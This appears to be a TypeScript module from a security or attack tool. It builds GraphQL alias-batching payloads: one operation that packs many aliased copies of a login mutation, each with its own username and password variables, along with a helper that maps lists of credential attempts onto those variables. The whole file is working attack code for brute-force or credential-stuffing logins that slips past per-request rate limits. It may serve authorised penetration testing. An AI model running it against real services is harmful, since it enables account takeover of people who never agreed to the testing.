import { Kind, parse, print, visit, type DocumentNode, type OperationDefinitionNode, type SelectionNode, type VariableDefinitionNode } from 'graphql';

/** The login mutation of a profile: which variables carry the username and the password. */
export interface LoginMutation {
  readonly op: OperationDefinitionNode;
  readonly userVar: string;
  readonly passVar: string;
}

/** Reads the profile's login mutation; the variables are $u and $p, or else the first two declared. */
export function readLoginMutation(text: string): LoginMutation {
  const doc = parse(text);
  const op = doc.definitions.find((d): d is OperationDefinitionNode => d.kind === Kind.OPERATION_DEFINITION);
  if (!op) throw new Error('graphql.loginMutation holds no operation');
  const vars = (op.variableDefinitions ?? []).map((v) => v.variable.name.value);
  const userVar = vars.includes('u') ? 'u' : vars[0];
  const passVar = vars.includes('p') ? 'p' : vars[1];
  if (userVar === undefined || passVar === undefined) throw new Error('graphql.loginMutation must declare a username and a password variable ($u and $p)');
  return { op, userVar, passVar };
}

const renamed = (name: string, i: number): string => `${name}_${i}`;

/**
 * One operation holding `n` aliased copies of the login field (t1..tn), each with its own
 * variables (u_1, p_1, ...): n attempts in one operation, the alias-batching attack.
 */
export function aliasedLogin(m: LoginMutation, n: number): string {
  const defs: VariableDefinitionNode[] = [];
  const selections: SelectionNode[] = [];
  for (let i = 1; i <= n; i++) {
    for (const d of m.op.variableDefinitions ?? [])
      defs.push({ ...d, variable: { ...d.variable, name: { ...d.variable.name, value: renamed(d.variable.name.value, i) } } });
    for (const s of m.op.selectionSet.selections) {
      const copy = visit(s, { Variable: (v) => ({ ...v, name: { ...v.name, value: renamed(v.name.value, i) } }) });
      selections.push(copy.kind === Kind.FIELD ? { ...copy, alias: { kind: Kind.NAME, value: `t${i}` } } : copy);
    }
  }
  const op: OperationDefinitionNode = { ...m.op, variableDefinitions: defs, selectionSet: { ...m.op.selectionSet, selections } };
  const doc: DocumentNode = { kind: Kind.DOCUMENT, definitions: [op] };
  return print(doc);
}

/** Variables for aliasedLogin: attempt i gets u_i and p_i. */
export function aliasedVariables(m: LoginMutation, attempts: readonly { readonly username: string; readonly password: string }[]): Record<string, string> {
  const out: Record<string, string> = {};
  attempts.forEach((a, k) => {
    out[renamed(m.userVar, k + 1)] = a.username;
    out[renamed(m.passVar, k + 1)] = a.password;
  });
  return out;
}
